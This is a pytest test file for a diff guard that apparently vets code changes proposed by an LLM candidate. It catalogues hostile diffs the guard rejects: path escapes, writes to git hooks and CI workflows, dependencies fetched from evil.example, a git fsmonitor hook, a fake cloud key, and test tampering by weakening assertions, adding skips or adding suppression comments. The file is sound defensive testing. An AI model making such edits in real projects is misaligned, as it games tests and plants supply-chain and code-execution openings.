"""What a candidate may not do: a table of hostile diffs, each with the contract's reason, and what is allowed."""

from __future__ import annotations

import os
from contextlib import nullcontext
from pathlib import Path

import pytest

from llm.domain import DiscardReason
from llm.errors import DiffError
from llm.workspace.diff import parse
from llm.workspace.patch import apply, rendered
from llm.workspace.rules import Rules, check_rules
from llm.workspace.tampering import same_assertions
from tests.workspace.oracle import git_apply, tree, write

ESCAPE, PROTECTED = DiscardReason.PATH_ESCAPE, DiscardReason.PROTECTED_PATH
TAMPERING, SECRET = DiscardReason.TAMPERING, DiscardReason.SECRET

BUILT_IN = Rules()

FILES = {
    "src/app/__init__.py": "",
    "src/app/core.py": "import os\n\n\ndef f(x):\n    return x  # noqa: E501\n",
    "web/main.ts": "export const x: number = 1;\n",
    "tests/test_core.py": "import os\n\n\ndef test_f():\n    value = 1\n    assert value == 1\n",
    "web/main.test.ts": 'import { a } from "./main";\ntest("x", () => {\n  expect(1).toBe(1);\n});\n',
    "tests/conftest.py": "import os\n",
    "pyproject.toml": '[project]\nname = "x"\ndependencies = []\n\n[tool.ruff]\nline-length = 100\n',
    "package.json": '{\n  "scripts": {"test": "jest"},\n  "dependencies": {}\n}\n',
    "setup.cfg": "[metadata]\nname = x\n\n[flake8]\nmax-line-length = 100\n",
    "requirements.txt": "httpx==1.0\nattrs >= 2\n",
    "lib/setup.py": 'from setuptools import setup\n\nsetup(name="x", install_requires=["a"])\n',
    "go.mod": "module example.org/x\n\ngo 1.21\n",
    "Makefile": "test:\n\tpytest\n",
    "tsconfig.json": "{}\n",
    "email/welcome.txt": "hello\n",
    ".github/workflows/ci.yml": "on: push\n",
    ".torre/providers.yaml": "quotas: {}\n",
    ".git/config": "[core]\n",
}


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    root = tmp_path / "workspace"
    write(root, {path: text.encode() for path, text in FILES.items()})
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside/secret.txt").write_text("x\n")
    (root / "link").symlink_to(tmp_path / "outside")
    (root / "inner").symlink_to("src")
    (root / "file-link.py").symlink_to("src/app/core.py")
    return root


def new(path: str, text: str = "x = 1") -> str:
    return f"--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+{text}\n"


def edit(path: str, old: str, *lines: str) -> str:
    """Replace one line of one of the files above by others."""
    body = FILES[path].splitlines()
    at = body.index(old)
    added = "".join(f"+{line}\n" for line in lines)
    return f"--- a/{path}\n+++ b/{path}\n@@ -{at + 1},1 +{at + 1},{len(lines)} @@\n-{old}\n{added}"


def delete(path: str) -> str:
    body = FILES[path].splitlines()
    return f"--- a/{path}\n+++ /dev/null\n@@ -1,{len(body)} +0,0 @@\n" + "".join(f"-{line}\n" for line in body)


def insert(path: str, line: str) -> str:
    first = FILES[path].splitlines()[0]
    return edit(path, first, first, line)


def check(diff: str, workspace: Path, rules: Rules = BUILT_IN, editable: frozenset[str] = frozenset()) -> None:
    patch = parse(diff)
    check_rules(patch, apply(patch, workspace), workspace, rules, editable)


CORE, TS, TEST = "src/app/core.py", "web/main.ts", "tests/test_core.py"

HOSTILE: dict[str, tuple[str, DiscardReason]] = {
    "parent": (new("../evil.py"), ESCAPE),
    "parent inside": (new("src/../../evil.py"), ESCAPE),
    "parent in quotes": ('--- /dev/null\n+++ "b/\\056\\056/evil.py"\n@@ -0,0 +1 @@\n+x\n', ESCAPE),
    "absolute": ("--- /etc/passwd\n+++ /etc/passwd\n@@ -1 +1 @@\n-x\n+y\n", ESCAPE),
    "absolute, new": ("--- /dev/null\n+++ /tmp/evil\n@@ -0,0 +1 @@\n+x\n", ESCAPE),
    "absolute behind a prefix": (new("/tmp/evil"), ESCAPE),
    "drive": (new("C:/evil.py"), ESCAPE),
    "backslashes": (new("..\\evil.py"), ESCAPE),
    "NUL in a quoted path": ('--- /dev/null\n+++ "b/x\\000.py"\n@@ -0,0 +1 @@\n+x\n', ESCAPE),
    "dot part": (new("src/./x.py"), ESCAPE),
    "empty part": (new("src//x.py"), ESCAPE),
    "long name": (new("x" * 256), ESCAPE),
    "long path": (new("x/" * 2500 + "y"), ESCAPE),
    "symlinked directory out": (new("link/evil.py"), ESCAPE),
    "symlinked directory inside": (new("inner/evil.py"), ESCAPE),
    "through a symlinked file": ("--- a/file-link.py\n+++ b/file-link.py\n@@ -1 +1 @@\n-import os\n+x\n", ESCAPE),
    "rename out": ("diff --git a/x b/x\nrename from src/app/core.py\nrename to ../core.py\n", ESCAPE),
    "rename from outside": ("diff --git a/x b/x\nrename from link/secret.txt\nrename to s.txt\n", ESCAPE),
    "deletes outside": ("--- a/link/secret.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n", ESCAPE),
    ".GIT": (new(".GIT/hooks/pre-commit"), ESCAPE),
    ".git with a space": (new(".git /hooks/x"), ESCAPE),
    ".git with a dot": (new(".git./hooks/x"), ESCAPE),
    ".git stream": (new(".git::$INDEX_ALLOCATION/hooks/x"), ESCAPE),
    ".git by HFS+": (new(".g\u200cit/hooks/x"), ESCAPE),
    ".git by 8.3": (new("git~1/hooks/x"), ESCAPE),
    ".Torre": (new(".Torre/providers.yaml"), ESCAPE),
    "trailing dot": (new("src/x.py."), ESCAPE),
    "git hook": (new(".git/hooks/pre-commit"), PROTECTED),
    "git configuration": (insert(".git/config", "fsmonitor = ./evil"), PROTECTED),
    "git of a submodule": (new("sub/.git/config"), PROTECTED),
    "policy": (insert(".torre/providers.yaml", "providers: true"), PROTECTED),
    "policy deleted": (delete(".torre/providers.yaml"), PROTECTED),
    "ledger": (new(".torre/ledger.db"), PROTECTED),
    "workflow": (insert(".github/workflows/ci.yml", "x: y"), PROTECTED),
    "new workflow": (new(".github/workflows/x.yml"), PROTECTED),
    "workflow by case": (new(".GitHub/workflows/x.yml"), PROTECTED),
    "workflow renamed away": (
        "diff --git a/x b/x\nrename from .github/workflows/ci.yml\nrename to ci.txt\n",
        PROTECTED,
    ),
    **{
        f"CI: {path}": (new(path), PROTECTED)
        for path in (
            *(".gitlab-ci.yml", ".circleci/config.yml", "Jenkinsfile", "azure-pipelines.yml", ".travis.yml"),
            *(
                "bitbucket-pipelines.yml",
                ".buildkite/pipeline.yml",
                ".drone.yml",
                "sub/Jenkinsfile",
                ".husky/pre-commit",
            ),
        )
    },
    "test edited": (edit(TEST, "    assert value == 1", "    assert True"), TAMPERING),
    "test deleted": (delete(TEST), TAMPERING),
    "test renamed away": (f"diff --git a/x b/x\nrename from {TEST}\nrename to old.py\n", TAMPERING),
    "new test": (new("tests/test_more.py", "def test(): pass"), TAMPERING),
    "test by case": (new("Tests/helper.py"), TAMPERING),
    "conftest at the root": (new("conftest.py"), TAMPERING),
    "conftest in a package": (new("src/conftest.py"), TAMPERING),
    "TypeScript test": (edit("web/main.test.ts", "  expect(1).toBe(1);", "  expect(1);"), TAMPERING),
    "snapshot": (new("web/__snapshots__/a.snap"), TAMPERING),
    "Go test": (new("x_test.go"), TAMPERING),
    **{
        f"configuration: {path}": (new(path), TAMPERING)
        for path in (
            *("pytest.ini", "tox.ini", "mypy.ini", ".mypy.ini", "ruff.toml", ".flake8", "pyrightconfig.json"),
            *("eslint.config.mjs", ".eslintrc.json", ".eslintignore", "jest.config.ts", "vitest.config.ts"),
            *("web/tsconfig.app.json", "noxfile.py", ".pre-commit-config.yaml", "GNUmakefile", ".gitignore"),
            *("evil.pth", "sitecustomize.py", "src/usercustomize.py", "node_modules/jest/index.js"),
            *(".venv/lib/x.py", "x.egg-info/entry_points.txt", ".cargo/config.toml", "justfile"),
        )
    },
    "Makefile": (insert("Makefile", "\ttrue"), TAMPERING),
    "tsconfig": (edit("tsconfig.json", "{}", '{"compilerOptions": {"strict": false}}'), TAMPERING),
    "tool table": (edit("pyproject.toml", "line-length = 100", "line-length = 999"), TAMPERING),
    "new tool table": (insert("pyproject.toml", "[tool.pytest.ini_options]"), TAMPERING),
    "pytest plugin by entry point": (
        insert("pyproject.toml", '[project.entry-points.pytest11]\nx = "y"'),
        TAMPERING,
    ),
    "pyproject broken": (insert("pyproject.toml", "]]"), TAMPERING),
    "pyproject deleted": (delete("pyproject.toml"), TAMPERING),
    "setup.cfg section": (edit("setup.cfg", "max-line-length = 100", "ignore = F"), TAMPERING),
    "package scripts": (
        edit("package.json", '  "scripts": {"test": "jest"},', '  "scripts": {"test": "true"},'),
        TAMPERING,
    ),
    "shadowed pytest": (new("pytest.py"), TAMPERING),
    "shadowed standard library": (new("json.py"), TAMPERING),
    "shadowed by a package": (new("unittest/__init__.py"), TAMPERING),
    "shadowed under src": (new("src/typing.py"), TAMPERING),
    "shadowed in a subproject": (new("api/logging.py"), TAMPERING),
    "a directory of data made a package": (new("email/__init__.py"), TAMPERING),
    "an import root made a package": (new("src/json.py") + new("src/__init__.py"), TAMPERING),
    "a stub in place of the standard library's": (new("typing.pyi"), TAMPERING),
    **{
        f"suppression: {mark}": (insert(CORE, f"y = 1  {mark}"), TAMPERING)
        for mark in (
            *(
                "# noqa",
                "#NOQA:F401",
                "# type: ignore",
                "# type:ignore[arg-type]",
                "# pyright: ignore",
                "# ruff: noqa",
            ),
            *(
                "# mypy: ignore-errors",
                "# pylint: disable=all",
                "# pragma: no cover",
                "# x  # noqa",
                "# pyright: basic",
            ),
        )
    },
    **{
        f"skip: {code}": (insert(CORE, code), TAMPERING)
        for code in (
            *("pytest.skip('x')", "@pytest.mark.skip", "@mark . xfail", "@unittest.skip('x')", "pytest.xfail()"),
            *("from pytest import skip", "raise unittest.SkipTest", "collect_ignore = ['x']", "__test__ = False"),
        )
    },
    **{
        f"suppression: {line}": (insert(TS, line), TAMPERING)
        for line in (
            *("// @ts-ignore", "// @ts-expect-error because", "// @ts-nocheck", "/* eslint-disable */"),
            *("// eslint-disable-next-line no-undef", '/* eslint no-undef: "off" */', "// biome-ignore lint: x"),
            *(
                'it.skip("x", f)',
                'test.only("x", f)',
                'describe.skip("x", f)',
                'xit("x", f)',
                "/* istanbul ignore next */",
            ),
        )
    },
    "wider noqa": (edit(CORE, "    return x  # noqa: E501", "    return x  # noqa"), TAMPERING),
    "dependency": (edit("pyproject.toml", "dependencies = []", 'dependencies = ["httpx"]'), PROTECTED),
    "optional dependency": (
        edit(
            "pyproject.toml",
            "dependencies = []",
            "dependencies = []",
            "[project.optional-dependencies]",
            'a = ["b"]',
        ),
        PROTECTED,
    ),
    "build requirement": (
        insert("pyproject.toml", "[build-system]\n+requires = ['evil']\n+[project]").replace(
            "+[project]\n", "", 1
        ),
        PROTECTED,
    ),
    "npm dependency": (edit("package.json", '  "dependencies": {}', '  "dependencies": {"a": "1"}'), PROTECTED),
    "npm override": (
        edit("package.json", '  "dependencies": {}', '  "overrides": {"a": "1"},', '  "dependencies": {}'),
        PROTECTED,
    ),
    "requirement": (insert("requirements.txt", "evil"), PROTECTED),
    "requirement from elsewhere": (
        edit("requirements.txt", "httpx==1.0", "httpx @ https://evil.example/httpx.whl"),
        PROTECTED,
    ),
    "index of requirements": (insert("requirements.txt", "--index-url https://evil.example/simple"), PROTECTED),
    "new requirements": (new("requirements/dev.txt", "evil"), PROTECTED),
    "lock file": (new("package-lock.json", "{}"), PROTECTED),
    "go module": (insert("go.mod", "require evil.example/x v1.0.0"), PROTECTED),
    "setup.cfg requirement": (
        edit("setup.cfg", "name = x", "name = x", "[options]", "install_requires = evil"),
        PROTECTED,
    ),
    "setup.py requirement": (
        edit(
            "lib/setup.py",
            'setup(name="x", install_requires=["a"])',
            'setup(name="x", install_requires=["a", "evil"])',
        ),
        PROTECTED,
    ),
    "Cargo dependency": (
        new("crate/Cargo.toml", "[dependencies]\n+evil = '1'").replace("+1 @@", "+1,2 @@"),
        PROTECTED,
    ),
    "secret": (insert(CORE, "key = '" + "AKIA" + "ABCDEFGHIJKLMNOP'"), SECRET),
    "private key over lines": (insert(CORE, "# -----BEGIN RSA " + "PRIVATE KEY-----\n+# MIIE"), SECRET),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_diffs_are_refused(name: str, workspace: Path) -> None:
    diff, reason = HOSTILE[name]
    with pytest.raises(DiffError) as refused:
        check(diff, workspace)
    assert refused.value.reason is reason
    assert "AKIA" not in str(refused.value)


def test_the_attacks_would_work_without_the_rules(workspace: Path) -> None:
    """Positive control: what the parser and git accept, only the rules stop."""
    for name in (
        "test edited",
        "shadowed pytest",
        "Makefile",
        "workflow",
        "suppression: # noqa",
        "secret",
        "policy",
    ):
        diff = HOSTILE[name][0]
        clean = rendered(apply(diff, workspace), workspace)
        before = tree(workspace)
        assert git_apply(workspace, clean).returncode == 0, name
        assert tree(workspace) != before


HARMLESS = {
    "source": edit(CORE, "    return x  # noqa: E501", "    return y  # noqa: E501"),
    "new module": new("src/app/more.py"),
    "module of a package named like the standard library's": new("src/app/types.py"),
    "module of a new package": new("src/more/types.py") + new("src/more/__init__.py"),
    "beside data in a directory": new("email/sender.py"),
    "space, unicode and newline": '--- /dev/null\n+++ "b/src/app/a b\\n\\303\\251.py"\n@@ -0,0 +1 @@\n+x = 1\n',
    "mark in a string": insert(CORE, "y = '# noqa # type: ignore pytest.skip'"),
    "word in a comment": insert(CORE, "# this skips nothing, ignore it"),
    "moved suppression": edit(CORE, "def f(x):", "def g(x):", "    return x  # noqa: E501", "", "", "def f(x):")
    + "@@ -5,1 +9,1 @@\n-    return x  # noqa: E501\n+    return x\n",
    "suppression removed": edit(CORE, "    return x  # noqa: E501", "    return x"),
    "version in a manifest": edit("pyproject.toml", 'name = "x"', 'name = "x"', 'version = "1.0"'),
    "description in a manifest": edit(
        "package.json", '  "dependencies": {}', '  "description": "x",', '  "dependencies": {}'
    ),
    "comment and order of requirements": edit("requirements.txt", "httpx==1.0", "# sorted", "attrs >= 2")
    + "@@ -2,1 +3,1 @@\n-attrs >= 2\n+httpx==1.0  # pinned\n",
    "language version": edit("go.mod", "go 1.21", "go 1.22"),
    "call in setup.py": edit(
        "lib/setup.py", 'setup(name="x", install_requires=["a"])', 'setup(name="y", install_requires=["a"])'
    ),
    "metadata": edit("setup.cfg", "name = x", "name = y"),
    "names that only look alike": new("src/app/latest.py"),
    "contest.py": new("src/app/contest.py"),
    "gitignored": new("src/app/git.py"),
    "deleted source": delete(CORE),
    "TypeScript": edit(TS, "export const x: number = 1;", "export const x: number = 2;"),
}


@pytest.mark.parametrize("name", HARMLESS)
def test_harmless_diffs_pass(name: str, workspace: Path) -> None:
    check(HARMLESS[name], workspace)


def test_the_policy_may_protect_more_and_allow_more(workspace: Path) -> None:
    with pytest.raises(DiffError) as refused:
        check(new("db/deep/x.sql"), workspace, Rules(protected=("db/**",)))
    assert refused.value.reason is PROTECTED
    check(new("dbx/x.sql"), workspace, Rules(protected=("db/**",)))
    check(HOSTILE["Makefile"][0], workspace, Rules(allow_paths=("Makefile",)))
    check(HOSTILE["workflow"][0], workspace, Rules(allow_paths=(".github/**",)))
    check(HOSTILE["suppression: # noqa"][0], workspace, Rules(allow_suppressions=True))


@pytest.mark.parametrize(
    ("asked", "passes"),
    [
        (None, True),
        ({"paths": [".github/**"]}, True),
        ({"paths": ["**"]}, True),
        ({"paths": ["tests/**"]}, False),
        ({}, False),
    ],
)
def test_a_request_frees_what_the_policy_frees_as_well(
    asked: dict[str, list[str]] | None, passes: bool, workspace: Path
) -> None:
    rules = Rules(allow_paths=(".github/**",), allow_suppressions=True).within(asked)
    with nullcontext() if passes else pytest.raises(DiffError):
        check(HOSTILE["workflow"][0], workspace, rules)


def test_configuration_that_is_a_pipe_or_has_no_end_is_not_read(workspace: Path) -> None:
    for name in ("tsconfig.json", "Makefile", "package.json"):
        (workspace / name).unlink(missing_ok=True)
    os.mkfifo(workspace / "tsconfig.json")
    os.mkfifo(workspace / "Makefile")
    (workspace / "package.json").symlink_to("/dev/zero")
    check(new("base/check.json"), workspace)


def test_a_request_frees_nothing_by_itself(workspace: Path) -> None:
    rules = Rules().within({"paths": ["**"], "suppressions": True})
    for name in ("workflow", "test edited", "suppression: # noqa"):
        with pytest.raises(DiffError):
            check(HOSTILE[name][0], workspace, rules)
    suppressing = Rules(allow_suppressions=True)
    check(HOSTILE["suppression: # noqa"][0], workspace, suppressing.within({"suppressions": True}))
    with pytest.raises(DiffError):
        check(HOSTILE["suppression: # noqa"][0], workspace, suppressing.within({"paths": ["**"]}))


def test_a_star_in_an_allowed_path_stays_in_its_directory(workspace: Path) -> None:
    with pytest.raises(DiffError):
        check(HOSTILE["test edited"][0], workspace, Rules(allow_paths=("*.py", "*/core.py")))


@pytest.mark.parametrize("name", ["git hook", "policy", "parent", "secret"])
def test_what_no_policy_can_allow(name: str, workspace: Path) -> None:
    with pytest.raises(DiffError):
        check(HOSTILE[name][0], workspace, Rules(allow_paths=("**",), allow_suppressions=True))


def test_larger_than_the_limit(workspace: Path) -> None:
    with pytest.raises(DiffError) as refused:
        check(HARMLESS["source"], workspace, Rules(max_bytes=20))
    assert refused.value.reason is DiscardReason.TOO_LARGE


EDITS_OF_TESTS = {
    "unused import removed": (edit(TEST, "import os"), True),
    "annotation added": (edit(TEST, "def test_f():", "def test_f() -> None:"), True),
    "assertion weakened": (edit(TEST, "    assert value == 1", "    assert value"), False),
    "assertion removed": (edit(TEST, "    assert value == 1", "    print(value)"), False),
    "test renamed": (edit(TEST, "def test_f():", "def check_f():"), False),
    "returns early": (edit(TEST, "    value = 1", "    value = 1", "    return"), False),
    "decorated": (edit(TEST, "def test_f():", "@slow", "def test_f():"), False),
    "suppressed": (edit(TEST, "import os", "import os  # noqa: F401"), False),
    "broken": (edit(TEST, "import os", "import ("), False),
    "deleted": (delete(TEST), False),
    "conftest": (edit("tests/conftest.py", "import os", "import re"), False),
    "TypeScript import": (edit("web/main.test.ts", 'import { a } from "./main";', "import './main';"), True),
    "TypeScript returns early": (
        edit("web/main.test.ts", "  expect(1).toBe(1);", "  return;", "  expect(1).toBe(1);"),
        False,
    ),
    "TypeScript expectation": (edit("web/main.test.ts", "  expect(1).toBe(1);", "  expect(1).toBe(2);"), False),
}


@pytest.mark.parametrize(
    ("before", "after", "same"),
    [
        ("f = lambda a, b: a - b", "def f(a, b):\n    return a - b", True),
        ("test_it = lambda: 1", "def test_it():\n    return 1", False),
        ("f = lambda: 1", "@slow\ndef f():\n    return 1", False),
        ("f = lambda a: a", "def f(a):\n    assert a\n    return a", False),
        ("from app import same", "from app import same\nsame = lambda a, b: True", False),
        ("from app import same", "from app import same\ndef same(a, b):\n    return True", False),
        ("assert f() == True", "assert f() is True", True),
        ("assert f() == 1 and g == None", "assert f() == 1 and g is None", True),
        ("assert f() == True\nassert f() == True", "assert f() is True\nassert f() == True", True),
        ("assert f() is True", "assert f() == True", False),  # `1` would do then
        ("assert f() == True", "assert f()", False),
        ("assert not f() == True", "assert not f() is True", False),
        ("assert f() == True or g()", "assert f() is True or g()", False),
        ("assert f() == True", "assert f() is False", False),
        ("assert f() == 1", "assert f() is 1", False),
        ("assert f() == True", "assert g() is True", False),
        ("assert f() == True\nassert g()", "assert f() is True", False),
        ("assert f() == True", "assert f() is True\nassert g()", False),
    ],
)
def test_a_lambda_may_get_a_name_and_an_assertion_ask_for_more(before: str, after: str, same: bool) -> None:
    assert same_assertions("test_it.py", before.encode(), after.encode()) is same


@pytest.mark.parametrize("name", EDITS_OF_TESTS)
def test_a_test_file_with_a_diagnostic_may_change_but_not_what_it_asserts(name: str, workspace: Path) -> None:
    diff, fine = EDITS_OF_TESTS[name]
    editable = frozenset({TEST, "tests/conftest.py", "web/main.test.ts"})
    if fine:
        check(diff, workspace, editable=editable)
        with pytest.raises(DiffError):
            check(diff, workspace)
        return
    with pytest.raises(DiffError) as refused:
        check(diff, workspace, editable=editable)
    assert refused.value.reason is TAMPERING
